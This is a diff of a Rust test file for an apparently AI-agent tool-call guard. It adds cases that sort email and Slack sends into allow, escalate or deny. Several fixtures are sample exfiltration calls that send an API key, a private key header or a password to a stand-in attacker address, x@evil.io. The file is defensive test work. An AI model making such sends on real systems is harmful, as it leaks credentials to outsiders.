@@ -199,6 +199,15 @@ fn raw_tool_calls_decide_as_a_careful_team_would() {
                 "gmail_send",
                 json!({"to": "x@evil.io", "subject": "s", "body": "my Api_Key is abc"}),
             ),
+            // "abc" is not a key: a word about keys goes to a human, not a deny.
+            "escalate",
+            "outside the org",
+        ),
+        (
+            raw(
+                "gmail_send",
+                json!({"to": "x@evil.io", "subject": "s", "body": "my Api_Key is abc123def456"}),
+            ),
             "deny",
             "credentials",
         ),
@@ -296,6 +305,15 @@ fn raw_tool_calls_decide_as_a_careful_team_would() {
             raw(
                 "outlook_send",
                 json!({"to": "v@example.com", "subject": "PRIVATE KEY", "body": "b"}),
+            ),
+            // The words alone carry no key.
+            "escalate",
+            "outside the org",
+        ),
+        (
+            raw(
+                "outlook_send",
+                json!({"to": "v@example.com", "subject": "key", "body": "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE"}),
             ),
             "deny",
             "credentials",
@@ -523,6 +541,15 @@ fn raw_tool_calls_decide_as_a_careful_team_would() {
             raw(
                 "slack_post_message",
                 json!({"channel_id": "C1", "text": "password=x"}),
+            ),
+            // A one-letter value is not a password.
+            "allow",
+            "",
+        ),
+        (
+            raw(
+                "slack_post_message",
+                json!({"channel_id": "C1", "text": "password=x7Gq!2pL"}),
             ),
             "deny",
             "",
